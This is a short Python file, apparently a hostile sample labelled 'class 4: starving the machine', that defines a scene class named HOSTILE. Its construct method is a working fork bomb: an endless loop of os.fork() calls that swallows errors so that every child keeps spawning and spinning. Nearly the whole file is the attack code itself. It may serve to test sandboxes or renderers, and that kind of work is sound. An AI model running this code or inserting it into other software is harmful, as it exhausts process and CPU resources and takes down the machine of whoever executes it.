# class 4: starving the machine
# tries: a fork bomb: every child forks again until fork fails, then they all spin.
import os
class HOSTILE(Scene):
    def construct(self):
        while True:
            try: os.fork()
            except OSError: pass
